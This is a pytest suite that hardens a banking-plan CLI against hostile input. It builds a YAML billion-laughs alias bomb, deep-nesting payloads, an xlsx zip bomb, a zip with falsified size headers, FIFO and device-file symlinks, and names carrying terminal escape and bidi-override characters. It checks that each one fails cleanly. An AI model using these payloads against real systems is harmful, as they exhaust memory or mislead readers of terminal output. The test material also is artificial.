"""Hostile and broken input: exit codes, one line per problem, limits, safe exports, clean stops.

Each row of `CASES` is one input an attacker or a careless planner could hand the CLI, with a
comment saying why it is hostile. Every row asserts the exit code, a single stderr line naming
the field or the limit, no traceback and no internal error. Rows marked `bounded` run in a
subprocess under a memory limit (RLIMIT_AS) and a timeout: resource bombs and special files,
where "it did not hang and did not eat the machine" is the point. Export rows read the files
back (openpyxl: no formula cell, no hyperlink; CSV: formula-looking text starts with `'`).
"""

from __future__ import annotations

import re

import codecs
import copy
import csv
import io
import json
import math
import os
import resource
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import yaml
from builders import branch, raw_scenario
from hypothesis import HealthCheck, event, given, settings, target
from hypothesis import strategies as st

#: Address-space limit of a bounded run (a plain `microplan validate` maps ~0.6 GB).
MEMORY_LIMIT = 1_500 * 1024 * 1024
#: Seconds a bounded run may take before the test fails it as a hang.
BOUNDED_TIMEOUT = 60
FORMULA_START = ("=", "+", "-", "@")


# ---------------------------------------------------------------- builders


def valid_raw(n: int = 2) -> dict:
    """A small valid scenario (two branches, 万元) with one variant."""
    raw = raw_scenario([branch(f"B{i + 1}") for i in range(n)])
    raw["variants"] = [{"name": "ratchet", "patch": {"policy": {"name": "ratchet"}}}]
    return raw


def write_yaml(folder: Path, data: object, name: str = "s.yaml") -> Path:
    path = folder / name
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return path


def write_json(folder: Path, data: object, name: str = "s.json") -> Path:
    path = folder / name
    path.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    return path


def with_changes(**changes: object) -> dict:
    """`valid_raw()` with `a__b__0__c=value` changes (dotted by double underscores)."""
    data = copy.deepcopy(valid_raw())
    for dotted, value in changes.items():
        *parents, last = dotted.split("__")
        node = data
        for p in parents:
            node = node[int(p)] if p.isdigit() else node.setdefault(p, {})
        node[last] = value
    return data


def table_scenario(folder: Path, table: str) -> Path:
    """A scenario whose branch table is the file `table` in `folder`."""
    raw = valid_raw()
    raw["branches"] = table
    return write_yaml(folder, raw)


def csv_bytes(rows: list[dict], encoding: str = "utf-8") -> bytes:
    return pd.DataFrame(rows).to_csv(index=False).encode(encoding)


def table_rows(n: int = 2) -> list[dict]:
    return [branch(f"B{i + 1}") for i in range(n)]


def scenario_with_csv(folder: Path, content: bytes, name: str = "b.csv") -> list[str]:
    (folder / name).write_bytes(content)
    return ["validate", table_scenario(folder, name)]


def xlsx_bytes(rows: list[list[object]], dimension: str | None = None) -> bytes:
    """A workbook with `rows` on its first sheet (row 1 = header), optionally with a forged <dimension>."""
    book = openpyxl.Workbook()
    sheet = book.active
    for r, values in enumerate(rows, start=1):
        for c, value in enumerate(values, start=1):
            if value is not None:
                sheet.cell(row=r, column=c, value=value)
    buffer = io.BytesIO()
    book.save(buffer)
    data = buffer.getvalue()
    if dimension is None:
        return data
    source, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target_zip:
        for info in source.infolist():
            body = source.read(info.filename)
            if info.filename.startswith("xl/worksheets/"):
                text = body.decode()
                start = text.index("<dimension")
                body = (text[:start] + f'<dimension ref="{dimension}"/>' + text[text.index("/>", start) + 2:]).encode()
            target_zip.writestr(info, body)
    return out.getvalue()


def header_and_rows(rows: list[dict]) -> list[list[object]]:
    names = list(rows[0])
    return [names] + [[row[n] for n in names] for row in rows]


# ---------------------------------------------------------------- row builders (each returns CLI args)


def fifo_scenario(tmp: Path) -> list[str]:
    os.mkfifo(tmp / "s.yaml")
    return ["validate", tmp / "s.yaml"]


def symlink_scenario(device: str) -> Callable[[Path], list[str]]:
    def build(tmp: Path) -> list[str]:
        (tmp / "s.yaml").symlink_to(device)
        return ["validate", tmp / "s.yaml"]
    return build


def symlink_table(device: str) -> Callable[[Path], list[str]]:
    def build(tmp: Path) -> list[str]:
        (tmp / "b.csv").symlink_to(device)
        return ["validate", table_scenario(tmp, "b.csv")]
    return build


def fifo_table(tmp: Path) -> list[str]:
    os.mkfifo(tmp / "b.csv")
    return ["validate", table_scenario(tmp, "b.csv")]


def sparse(tmp: Path, name: str, size: int) -> Path:
    path = tmp / name
    with path.open("wb") as f:
        f.truncate(size)  # sparse: costs no disk
    return path


def yaml_text(text: str) -> Callable[[Path], list[str]]:
    def build(tmp: Path) -> list[str]:
        (tmp / "s.yaml").write_text(text, encoding="utf-8")
        return ["validate", tmp / "s.yaml"]
    return build


def json_text(text: str) -> Callable[[Path], list[str]]:
    def build(tmp: Path) -> list[str]:
        (tmp / "s.json").write_text(text, encoding="utf-8")
        return ["validate", tmp / "s.json"]
    return build


def raw_bytes(data: bytes, name: str = "s.yaml") -> Callable[[Path], list[str]]:
    def build(tmp: Path) -> list[str]:
        (tmp / name).write_bytes(data)
        return ["validate", tmp / name]
    return build


def scenario(data: dict, *args: str, name: str = "s.yaml", command: str = "validate") -> Callable[[Path], list[str]]:
    def build(tmp: Path) -> list[str]:
        path = write_json(tmp, data, name) if name.endswith(".json") else write_yaml(tmp, data, name)
        return [command, path, *args]
    return build


def valid_yaml() -> str:
    return yaml.safe_dump(valid_raw(), allow_unicode=True, sort_keys=False)


def alias_bomb() -> str:
    """The billion-laughs document, inside a variant patch (a free-form part)."""
    lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    lines += [f"a{i}: &a{i} [{','.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 10)]
    body = "\n".join("      " + line for line in lines)
    return valid_yaml().replace("variants:\n", f"variants:\n- name: bomb\n  patch:\n    policy:\n{body}\n", 1)


def many_aliases() -> str:
    """101 aliases of the scenario's name inside a variant patch."""
    patch = "".join(f"    k{i}: *v\n" for i in range(101))
    text = valid_yaml().replace("variants:\n", "variants:\n- name: many\n  patch:\n" + patch, 1)
    return text.replace("name: test bank", "name: &v test bank", 1)


def big_table(tmp: Path) -> list[str]:
    sparse(tmp, "b.csv", 60 * 1024 * 1024)
    return ["validate", table_scenario(tmp, "b.csv")]


def deep_yaml(depth: int) -> str:
    return valid_yaml().replace("variants:\n", "variants:\n- name: deep\n  patch: " + "[" * depth + "]" * depth + "\n", 1)


def deep_json(depth: int) -> str:
    raw = valid_raw()
    text = json.dumps(raw)
    return text.replace('"patch": {', '"patch": {"deep": ' + "[" * depth + "]" * depth + ", ", 1)


def duplicate_key_yaml() -> str:
    return valid_yaml().replace("plan_year: 2014\n", "plan_year: 2014\nplan_year: 2015\n", 1)


def xlsx_table(data_rows: list[list[object]], dimension: str | None = None) -> Callable[[Path], list[str]]:
    def build(tmp: Path) -> list[str]:
        (tmp / "b.xlsx").write_bytes(xlsx_bytes(data_rows, dimension))
        return ["validate", table_scenario(tmp, "b.xlsx")]
    return build


def xlsx_bomb(tmp: Path) -> list[str]:
    """A 70 MB sheet of spaces that deflates to ~70 KB: the zip declares what it will inflate to."""
    with zipfile.ZipFile(tmp / "b.xlsx", "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            block = b" " * (1 << 20)
            for _ in range(70):
                member.write(block)
    return ["validate", table_scenario(tmp, "b.xlsx")]


def xlsx_lying_sizes(tmp: Path) -> list[str]:
    """A real workbook whose sheet inflates to 50 MB but declares 100 bytes in both zip headers:
    the declared size must hold while inflating (zipfile stops there and fails the CRC)."""
    import struct

    source, buffer = zipfile.ZipFile(io.BytesIO(xlsx_bytes(header_and_rows(table_rows(2))))), io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        for info in source.infolist():
            body = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                body = body.replace(b"</sheetData>", b"<row/>" * (50 * 1024 * 1024 // 6) + b"</sheetData>")
            z.writestr(info.filename, body)
    data = bytearray(buffer.getvalue())
    sheet = next(i for i in zipfile.ZipFile(io.BytesIO(bytes(data))).infolist() if i.filename == "xl/worksheets/sheet1.xml")
    struct.pack_into("<I", data, sheet.header_offset + 22, 100)            # local header: uncompressed size
    name = sheet.filename.encode()
    central = data.find(b"PK\x01\x02")
    while data[central + 46:central + 46 + len(name)] != name or data[central + 28:central + 30] != struct.pack("<H", len(name)):
        central = data.find(b"PK\x01\x02", central + 1)
    struct.pack_into("<I", data, central + 24, 100)                        # central directory: the same
    (tmp / "b.xlsx").write_bytes(bytes(data))
    return ["validate", table_scenario(tmp, "b.xlsx")]


def xlsx_far_row(tmp: Path) -> list[str]:
    """Two branches and one stray cell at row 1,000,000: the rows between are implied, not stored."""
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(header_and_rows(table_rows(2)))))
    book.active.cell(row=1_000_000, column=1, value="far away")
    book.save(tmp / "b.xlsx")
    return ["validate", table_scenario(tmp, "b.xlsx")]


def xlsx_many_parts(tmp: Path) -> list[str]:
    with zipfile.ZipFile(tmp / "b.xlsx", "w") as z:
        for i in range(1_500):
            z.writestr(f"x/{i}.xml", "")
    return ["validate", table_scenario(tmp, "b.xlsx")]


def csv_table(build_text: Callable[[], bytes]) -> Callable[[Path], list[str]]:
    def build(tmp: Path) -> list[str]:
        return scenario_with_csv(tmp, build_text())
    return build


def csv_with_extra_field() -> bytes:
    lines = csv_bytes(table_rows(3)).decode().splitlines()
    lines[2] += ",surplus"  # the second data row (file row 3) has one field too many
    return ("\n".join(lines) + "\n").encode()


def csv_with_missing_field() -> bytes:
    lines = csv_bytes(table_rows(3)).decode().splitlines()
    lines[3] = lines[3].rsplit(",", 1)[0]  # file row 4 lost its last field
    return ("\n".join(lines) + "\n").encode()


def csv_blank_rows_then_bad() -> bytes:
    rows = table_rows(3)
    rows[2]["outlets"] = -4
    lines = csv_bytes(rows).decode().splitlines()
    return ("\n".join([lines[0], "", lines[1], ",,,", lines[2], "", lines[3]]) + "\n").encode()


def csv_too_many_rows() -> bytes:
    header = ",".join(branch("B0"))
    row = ",".join(str(v) for v in branch("B0").values())
    return (header + "\n" + "\n".join(row.replace("B0", f"B{i}", 1) for i in range(50_001)) + "\n").encode()


def look_alike(first: str, second: str) -> dict:
    data = valid_raw()
    data["branches"][0]["id"], data["branches"][1]["id"] = first, second
    return data


def named(name: str, where: str = "branch") -> dict:
    data = valid_raw()
    if where == "branch":
        data["branches"][0]["name"] = name
    else:
        data["name"] = name
    return data


def encoded(encoding: str, *, bom: bytes = b"", name: str = "s.yaml") -> Callable[[Path], list[str]]:
    def build(tmp: Path) -> list[str]:
        data = named("城东支行", "branch")
        text = json.dumps(data, ensure_ascii=False) if name.endswith(".json") else yaml.safe_dump(data, allow_unicode=True)
        (tmp / name).write_bytes(bom + text.encode(encoding))
        return ["validate", tmp / name]
    return build


def encoded_csv(encoding: str, bom: bytes = b"") -> Callable[[Path], list[str]]:
    def build(tmp: Path) -> list[str]:
        rows = table_rows(2)
        rows[0]["name"] = "城东支行"
        return scenario_with_csv(tmp, bom + csv_bytes(rows, encoding))
    return build


def out_is_fifo(tmp: Path) -> list[str]:
    os.mkfifo(tmp / "out.csv")
    return ["plan", write_yaml(tmp, valid_raw()), "--format", "csv", "--out", tmp / "out.csv"]


def out_is_input(tmp: Path) -> list[str]:
    path = write_yaml(tmp, valid_raw())
    return ["plan", path, "--format", "json", "--out", path]


def out_is_table(tmp: Path) -> list[str]:
    (tmp / "b.csv").write_bytes(csv_bytes(table_rows(2)))
    return ["plan", table_scenario(tmp, "b.csv"), "--format", "csv", "--out", tmp / "b.csv"]


def out_is_directory(tmp: Path) -> list[str]:
    (tmp / "d").mkdir()
    return ["plan", write_yaml(tmp, valid_raw()), "--format", "json", "--out", tmp / "d"]


def simulate_args(*options: str) -> Callable[[Path], list[str]]:
    def build(tmp: Path) -> list[str]:
        data = valid_raw()
        data["simulation"] = {"replications": 2, "days": 5, "revolving_credit": {"accounts": 20}}
        return ["simulate", write_yaml(tmp, data), "--workers", "1", *options]
    return build


def plan_args(*options: str) -> Callable[[Path], list[str]]:
    def build(tmp: Path) -> list[str]:
        return ["plan", write_yaml(tmp, valid_raw()), *options]
    return build


def money_in(unit: str, value: float) -> dict:
    data = valid_raw()
    data["units"] = {"money": unit}
    data["bank"]["all_loans_prev"] = value
    return data


def one_pass() -> dict:
    """A field problem, two cross-field problems and a typo, all in one file."""
    data = valid_raw(3)
    data["branches"][0]["outlets"] = -1                                  # field
    data["branches"][1]["loan_size_min"] = 90.0                          # cross-field (band upside down)
    data["plan_year"] = 2030                                             # cross-field (outside the cycle)
    data["plan_yaer"] = 1                                                # unknown key
    return data


# ---------------------------------------------------------------- the table


@dataclass(frozen=True)
class Case:
    build: Callable[[Path], list[str]]
    code: int
    fragment: str            # must appear in the (single) stderr line
    bounded: bool = False    # run in a subprocess with a memory limit and a timeout
    lines: int = 1           # stderr lines expected


CASES = [
    # -- special files and endless streams: the size on disk says nothing about what a read returns
    pytest.param(Case(fifo_scenario, 2, "not a regular file (a FIFO)", bounded=True), id="scenario-fifo"),            # open() on a FIFO blocks forever
    pytest.param(Case(symlink_scenario("/dev/zero"), 2, "not a regular file", bounded=True), id="scenario-dev-zero"),  # size 0, endless zeros
    pytest.param(Case(symlink_scenario("/dev/urandom"), 2, "not a regular file", bounded=True), id="scenario-dev-urandom"),  # endless random bytes
    pytest.param(Case(symlink_table("/dev/zero"), 2, "not a regular file", bounded=True), id="table-dev-zero"),       # the table path is attacker-chosen too
    pytest.param(Case(symlink_table("/dev/urandom"), 2, "not a regular file", bounded=True), id="table-dev-urandom"),  # endless random table
    pytest.param(Case(fifo_table, 2, "not a regular file (a FIFO)", bounded=True), id="table-fifo"),                  # a FIFO table blocks forever
    pytest.param(Case(lambda t: ["validate", t], 2, "is a directory"), id="scenario-directory"),                      # a folder instead of a file
    pytest.param(Case(lambda t: ["validate", sparse(t, "s.yaml", 60 * 1024 * 1024)], 2, "too large", bounded=True), id="scenario-60MB"),  # beyond the file limit
    pytest.param(Case(big_table, 2, "too large", bounded=True), id="table-60MB"),                                      # beyond the file limit
    pytest.param(Case(raw_bytes(b""), 2, "must be a mapping"), id="scenario-empty"),                                   # nothing at all
    # -- YAML / JSON structure bombs
    pytest.param(Case(yaml_text(alias_bomb()), 2, "values with aliases expanded", bounded=True), id="yaml-billion-laughs"),           # 10^9 strings from 1 KB
    pytest.param(Case(yaml_text(many_aliases()), 2, "more than 100 YAML aliases"), id="yaml-101-aliases"),            # aliases beyond the limit
    pytest.param(Case(yaml_text(deep_yaml(20_000)), 2, "nested deeper than 32", bounded=True), id="yaml-deep-20000"),  # RecursionError in a composer
    pytest.param(Case(yaml_text(deep_yaml(40)), 2, "nested deeper than 32"), id="yaml-deep-40"),                      # just past the limit
    pytest.param(Case(json_text(deep_json(100_000)), 2, "nested deeper than 32", bounded=True), id="json-deep-100000"),  # RecursionError in json
    pytest.param(Case(json_text(deep_json(40)), 2, "nested deeper than 32"), id="json-deep-40"),                      # deepcopy / merge would recurse
    pytest.param(Case(yaml_text(valid_yaml().replace("plan_year: 2014", "plan_year: " + "9" * 5000)), 2, "cannot be read"), id="yaml-5000-digit-int"),  # int() refuses > 4300 digits
    pytest.param(Case(json_text(json.dumps(valid_raw()).replace('"plan_year": 2014', '"plan_year": ' + "9" * 5000)), 2, "cannot be read"), id="json-5000-digit-int"),  # same in JSON
    # -- duplicate keys and non-JSON numbers: the last value would silently win
    pytest.param(Case(yaml_text(duplicate_key_yaml()), 2, "duplicate key 'plan_year'"), id="yaml-duplicate-top-key"),  # 2015 would win
    pytest.param(Case(yaml_text(valid_yaml().replace("  outlets: 5\n", "  outlets: 5\n  outlets: 50\n", 1)), 2, "duplicate key 'outlets'"), id="yaml-duplicate-branch-key"),  # a row edited twice
    pytest.param(Case(json_text(json.dumps(valid_raw()).replace('"plan_year": 2014', '"plan_year": 2014, "plan_year": 2015')), 2, "duplicate key 'plan_year'"), id="json-duplicate-key"),  # JSON allows it, meaning changes
    pytest.param(Case(json_text(json.dumps(valid_raw()).replace('"micro_client_attrition": 0.1', '"micro_client_attrition": NaN')), 2, "NaN is not a JSON number"), id="json-NaN"),  # not JSON; the solver stalls on it
    pytest.param(Case(json_text(json.dumps(valid_raw()).replace('"all_loans_prev": 1000000.0', '"all_loans_prev": Infinity')), 2, "Infinity is not a JSON number"), id="json-Infinity"),  # not JSON
    pytest.param(Case(json_text(json.dumps(valid_raw()).replace('"micro_loan_increment_prev": 0.0', '"micro_loan_increment_prev": -Infinity')), 2, "-Infinity is not a JSON number"), id="json-minus-Infinity"),  # not JSON
    pytest.param(Case(json_text(json.dumps(valid_raw()).replace('"all_loans_prev": 1000000.0', '"all_loans_prev": 1e999')), 2, "bank.all_loans_prev: Input should be a finite number"), id="json-1e999-is-inf"),  # json reads it as inf
    # -- numbers that are not numbers
    pytest.param(Case(scenario(with_changes(branches__0__outlets=True)), 2, "branches.0.outlets: must be a number, not a boolean"), id="bool-as-count"),  # true would become 1
    pytest.param(Case(yaml_text(valid_yaml().replace("micro_client_attrition: 0.1", "micro_client_attrition: yes")), 2, "bank.micro_client_attrition: must be a number, not a boolean"), id="yaml-yes-as-rate"),  # YAML 1.1: yes is true
    pytest.param(Case(yaml_text(valid_yaml().replace("micro_client_attrition: 0.1", "micro_client_attrition: .nan")), 2, "bank.micro_client_attrition: Input should be a finite number"), id="yaml-nan"),  # NaN passes every comparison
    pytest.param(Case(yaml_text(valid_yaml().replace("all_loans_prev: 1000000.0", "all_loans_prev: .inf")), 2, "bank.all_loans_prev: Input should be a finite number"), id="yaml-inf"),  # inf overflows the LP
    pytest.param(Case(scenario(with_changes(bank__all_loans_prev=1e308)), 2, "bank.all_loans_prev: must be at most 1e+15 in size"), id="1e308"),  # overflowed the model build
    pytest.param(Case(scenario(with_changes(branches__0__outlets=10**7)), 2, "branches.0.outlets: Input should be less than or equal to 100000"), id="absurd-outlets"),  # finite but absurd
    pytest.param(Case(scenario(with_changes(simulation={"revolving_credit": {"default": {"utilisation_sensitivity": 1e300}}})), 2, "simulation.revolving_credit.default.utilisation_sensitivity"), id="huge-sensitivity"),  # exp() overflowed
    pytest.param(Case(scenario(money_in("亿元", 1e12)), 2, "bank.all_loans_prev: must be at most 1e+11 万元 in size once converted from 亿元"), id="money-too-big-in-yi"),  # fine in the file's unit, absurd in 万元
    pytest.param(Case(scenario(with_changes(cycle__micro_client_target=2**70)), 2, "cycle.micro_client_target: must be at most 1e+15 in size"), id="int-beyond-int64"),  # numpy int64 overflow
    pytest.param(Case(csv_table(lambda: csv_bytes(table_rows(2)).replace(b",10000.0,", b",inf,", 1)), 2, "branches.0.micro_loans: Input should be a finite number"), id="csv-inf"),  # inf text in a CSV
    pytest.param(Case(csv_table(lambda: csv_bytes(table_rows(2)).replace(b",10000.0,", b",NaN,", 1)), 2, "branches.0.micro_loans: Input should be a finite number"), id="csv-nan"),  # NaN text in a CSV
    pytest.param(Case(csv_table(lambda: csv_bytes(table_rows(2)).replace(b",10000.0,", b",1e400,", 1)), 2, "branches.0.micro_loans: Input should be a finite number"), id="csv-1e400"),  # overflows to inf when parsed
    pytest.param(Case(csv_table(lambda: csv_bytes(table_rows(2)).replace(b",10000.0,", b",TRUE,", 1)), 2, "branches.0.micro_loans"), id="csv-TRUE-as-money"),  # a spreadsheet boolean
    # -- unknown keys inside free-form parts
    pytest.param(Case(scenario(with_changes(variants=[{"name": "v", "patch": {"policy": {"nmae": "ratchet"}}}])), 2, "variants.0.patch.policy.nmae: unknown key"), id="patch-typo"),  # the variant would equal the base
    pytest.param(Case(scenario(with_changes(variants=[{"name": "v", "patch": {"polcy": {"name": "ratchet"}}}])), 2, "variants.0.patch.polcy: unknown key"), id="patch-top-typo"),  # ignored silently before
    pytest.param(Case(scenario(with_changes(variants=[{"name": "v", "patch": {"policy": {"name": "whatever"}}}])), 2, "variants.0.patch.policy.name"), id="patch-bad-value"),  # fails only when compared
    pytest.param(Case(scenario(with_changes(simulation={"joint_marketing": {"partners": 3}})), 2, "simulation.joint_marketing.partners: unknown key"), id="joint-marketing-unknown"),  # accepted and ignored before
    # -- branch tables
    pytest.param(Case(csv_table(csv_with_extra_field), 2, "b.csv row 3: branches: 15 fields, more than the header's 14"), id="csv-extra-field"),  # would shift every column
    pytest.param(Case(csv_table(csv_with_missing_field), 2, "b.csv row 4: branches: 13 fields, fewer than the header's 14"), id="csv-missing-field"),  # a truncated row
    pytest.param(Case(csv_table(csv_blank_rows_then_bad), 2, "b.csv row 7: branches.2.outlets"), id="csv-blank-rows-keep-row-numbers"),  # blank rows skipped, rows still named right
    pytest.param(Case(csv_table(csv_too_many_rows), 2, "more than 50000 branch rows", bounded=True), id="csv-50001-rows"),  # beyond the row limit
    pytest.param(Case(csv_table(lambda: csv_bytes(table_rows(2)).replace(b"id,name", b"id,id", 1)), 2, "column 'id' appears twice"), id="csv-duplicate-column"),  # which one wins?
    pytest.param(Case(csv_table(lambda: csv_bytes(table_rows(2)).replace(b"B1,", b"B\x001,", 1)), 2, "NUL"), id="csv-nul-byte"),  # binary in a text table
    pytest.param(Case(csv_table(lambda: csv_bytes(table_rows(2)).replace("支行B1".encode(), b'"' + b"x" * 20_000 + b'"', 1)), 2, "CSV syntax error"), id="csv-huge-field"),  # one cell of 20,000 characters
    pytest.param(Case(csv_table(lambda: csv_bytes(table_rows(2)) + b'B9,"unterminated\n'), 2, "CSV syntax error"), id="csv-unterminated-quote"),  # swallows the rest of the file
    pytest.param(Case(xlsx_bomb, 2, "workbook inflates to", bounded=True), id="xlsx-zip-bomb"),                         # 70 MB of XML from 70 KB
    pytest.param(Case(xlsx_lying_sizes, 2, "not a readable .xlsx table: BadZipFile", bounded=True), id="xlsx-lying-sizes"),        # declares 100 bytes, inflates to 50 MB
    pytest.param(Case(xlsx_many_parts, 2, "more than 1000 parts"), id="xlsx-1500-parts"),                              # a zip of many members
    pytest.param(Case(xlsx_far_row, 2, "more than 200000 rows in the sheet"), id="xlsx-cell-at-row-1000000"),         # a million rows implied by one cell
    pytest.param(Case(xlsx_table(header_and_rows(table_rows(2)) + [[None] * 15 + ["stray"]]), 2, "row 4: branches: a value in a column without a header"), id="xlsx-value-without-header"),  # a column nobody named
    pytest.param(Case(xlsx_table(header_and_rows([{**branch("B1"), "outlets": True}, branch("B2")])), 2, "branches.0.outlets: must be a number, not a boolean"), id="xlsx-boolean-cell"),  # TRUE cell read as 1
    # -- ids and names
    pytest.param(Case(scenario(look_alike("B01", "Ｂ０１")), 2, "branches.1.id: branch ids must be unique"), id="full-width-id"),  # prints the same on a plan
    pytest.param(Case(scenario(look_alike("b01", "B01")), 2, "branches.1.id: branch ids must be unique"), id="case-only-id"),  # Excel lookups ignore case
    pytest.param(Case(scenario(look_alike("B01", "B01 ")), 2, "branches.1.id: branch ids must be unique"), id="trailing-space-id"),  # invisible difference
    pytest.param(Case(scenario(named("\x1b[2J\x1b[31mred"), name="s.json"), 2, "branches.0.name: contains the control or format character U+001B"), id="escape-in-name"),  # clears and recolours the terminal
    pytest.param(Case(scenario(named("abc\u202edcb"), name="s.json"), 2, "U+202E"), id="bidi-override-in-name"),  # reverses what a reader sees
    pytest.param(Case(scenario(named("bank\x00", "scenario"), name="s.json"), 2, "name: contains the control or format character U+0000"), id="nul-in-scenario-name"),  # truncates C strings
    pytest.param(Case(scenario(named("line1\nline2"), name="s.json"), 2, "U+000A"), id="newline-in-name"),  # breaks one-line-per-problem outputs
    # -- encodings Chinese Windows tools save
    pytest.param(Case(encoded("gbk"), 0, ""), id="yaml-gbk"),                                              # Notepad's ANSI on a Chinese Windows
    pytest.param(Case(encoded("gb18030"), 0, ""), id="yaml-gb18030"),                                      # the national standard
    pytest.param(Case(encoded("utf-16", name="s.yaml"), 0, ""), id="yaml-utf16-bom"),                      # Notepad's "Unicode"
    pytest.param(Case(encoded("utf-8", bom=codecs.BOM_UTF8, name="s.json"), 0, ""), id="json-utf8-bom"),   # Notepad's UTF-8 writes a BOM
    pytest.param(Case(encoded_csv("gbk"), 0, ""), id="csv-gbk"),                                           # Excel's CSV on a Chinese Windows
    pytest.param(Case(encoded_csv("utf-16"), 0, ""), id="csv-utf16-bom"),                                  # Excel's "Unicode text"
    pytest.param(Case(raw_bytes(b"name: caf\xe9\n"), 2, "save the file as UTF-8"), id="latin1-yaml"),       # neither UTF-8 nor GBK
    pytest.param(Case(raw_bytes(valid_yaml().encode("utf-16-le")), 2, "NUL bytes"), id="utf16-without-bom"),  # ambiguous without its BOM
    # -- outputs: never block, never destroy an input
    pytest.param(Case(out_is_fifo, 2, "not a regular file (a FIFO)", bounded=True), id="out-fifo"),         # writing would block forever
    pytest.param(Case(out_is_input, 2, "is the input file"), id="out-is-the-scenario"),                    # the plan would replace its own input
    pytest.param(Case(out_is_table, 2, "is the input file"), id="out-is-the-branch-table"),                # … or the branch table
    pytest.param(Case(out_is_directory, 2, "is a directory"), id="out-directory"),                         # nothing to rename over
    pytest.param(Case(plan_args("--format", "xlsx"), 2, "--format xlsx needs a file"), id="xlsx-to-terminal"),  # binary on a terminal
    pytest.param(Case(lambda t: plan_args("--format", "json", "--out", t / "s.yaml" / "plan.json")(t), 2, "--out: cannot be used (Not a directory)"), id="out-below-a-file"),  # its folder is a file
    # -- Dask addresses
    pytest.param(Case(simulate_args("--dask", "foo://host:8786"), 2, "--dask: unknown scheme 'foo'"), id="dask-foo-scheme"),  # Python error before
    pytest.param(Case(simulate_args("--dask", "http://host:8786"), 2, "--dask: unknown scheme 'http'"), id="dask-http"),     # a web address
    pytest.param(Case(simulate_args("--dask", "tcp://host:notaport"), 2, "--dask: the port must be a number"), id="dask-port-not-number"),  # ValueError before
    pytest.param(Case(simulate_args("--dask", "tcp://:8786"), 2, "--dask: the address has no host"), id="dask-empty-host"),  # empty host
    pytest.param(Case(simulate_args("--dask", "tcp://127.0.0.1:1"), 2, "--dask: cannot reach a Dask scheduler"), id="dask-nothing-listening"),  # connection refused
    pytest.param(Case(simulate_args("--dask", "tls://127.0.0.1:1"), 2, "tls:// needs Dask's TLS settings"), id="dask-tls-without-settings"),  # TypeError before
    pytest.param(Case(simulate_args("--dask", "ucx://127.0.0.1:1"), 2, "ucx:// needs UCX support"), id="dask-ucx-not-installed"),  # TypeError before
    pytest.param(Case(simulate_args("--dask", "inproc://x"), 2, "an inproc address is inproc://HOST/PID/N"), id="dask-inproc-malformed"),  # ValueError before
    pytest.param(Case(simulate_args("--dask", "inproc://10.0.0.1/1/1"), 2, "names a scheduler inside one process"), id="dask-inproc-other-process"),  # never reachable from here
    # -- options beyond their bounds; usage errors as one line, not a box
    pytest.param(Case(simulate_args("--replications", "100001"), 2, "--replications: must be ≤ 100000"), id="replications-unbounded"),  # would run for days
    pytest.param(Case(simulate_args("--workers", "100000"), 2, "--workers: must be ≤ 256"), id="workers-unbounded"),  # fork bomb
    pytest.param(Case(simulate_args("--seed", str(2**64)), 2, "--seed: must be ≤ 2^63"), id="seed-beyond-int64"),  # beyond any seed type
    pytest.param(Case(plan_args("--format", "foo"), 2, "microplan plan: Invalid value for '--format'"), id="usage-bad-choice"),  # typer printed a box
    pytest.param(Case(plan_args("--nope"), 2, "microplan plan: No such option: --nope"), id="usage-unknown-option"),  # typer printed a box
    pytest.param(Case(lambda t: ["plan"], 2, "microplan plan: Missing argument"), id="usage-missing-argument"),  # typer printed a box
    pytest.param(Case(lambda t: ["scenarios", "generate", "--branches", "0"], 2, "--branches"), id="usage-out-of-range"),  # typer printed a box
    # -- every problem in one pass
    pytest.param(Case(scenario(one_pass()), 2, "", lines=4), id="one-pass-field-and-cross-field"),  # cross-field problems used to wait for the fields
]


@dataclass
class Outcome:
    code: int
    out: str
    err: str


def run_bounded(args: list[object], cwd: Path, *, fsize: int | None = None, stdout: object = subprocess.PIPE,
                env: dict | None = None, timeout: float = BOUNDED_TIMEOUT) -> Outcome:
    """`microplan ARGS` in a subprocess under RLIMIT_AS (and RLIMIT_FSIZE), failing the test on a hang."""
    def limits() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))
        if fsize is not None:
            resource.setrlimit(resource.RLIMIT_FSIZE, (fsize, fsize))

    run_env = {**os.environ, "OPENBLAS_NUM_THREADS": "1", "OMP_NUM_THREADS": "1", **(env or {})}
    proc = subprocess.run([sys.executable, "-c", "from api.cli import main; main()", *map(str, args)],
                          cwd=cwd, stdout=stdout, stderr=subprocess.PIPE, stdin=subprocess.DEVNULL,
                          preexec_fn=limits, timeout=timeout, env=run_env)
    out = proc.stdout.decode("utf-8", "replace") if isinstance(proc.stdout, bytes) else ""
    return Outcome(proc.returncode, out, proc.stderr.decode("utf-8", "replace"))


def assert_clean_failure(outcome: Outcome, case: Case) -> None:
    """Exit code, the expected number of stderr lines naming the problem, no traceback or internal error."""
    lines = outcome.err.strip().splitlines()
    assert outcome.code == case.code, outcome.err
    assert "Traceback" not in outcome.err and "internal error" not in outcome.err
    if case.code == 0:
        return
    assert len(lines) == case.lines, outcome.err
    assert all(case.fragment in line for line in lines[:1]), outcome.err
    assert not any("╭" in line or "│" in line for line in lines), "usage errors are lines, not a box"


@pytest.mark.parametrize("case", CASES)
def test_hostile_input(case: Case, cli, tmp_path: Path) -> None:
    args = case.build(tmp_path)
    if case.bounded:
        outcome = run_bounded(args, tmp_path)
    else:
        result = cli(*args)
        outcome = Outcome(result.code, result.out, result.err)
    assert_clean_failure(outcome, case)
    leftovers = [p.name for p in tmp_path.rglob("*.part")]
    assert not leftovers, f"half-written files left: {leftovers}"


def test_table_has_enough_rows() -> None:
    """The issue asks for at least 60 hostile rows."""
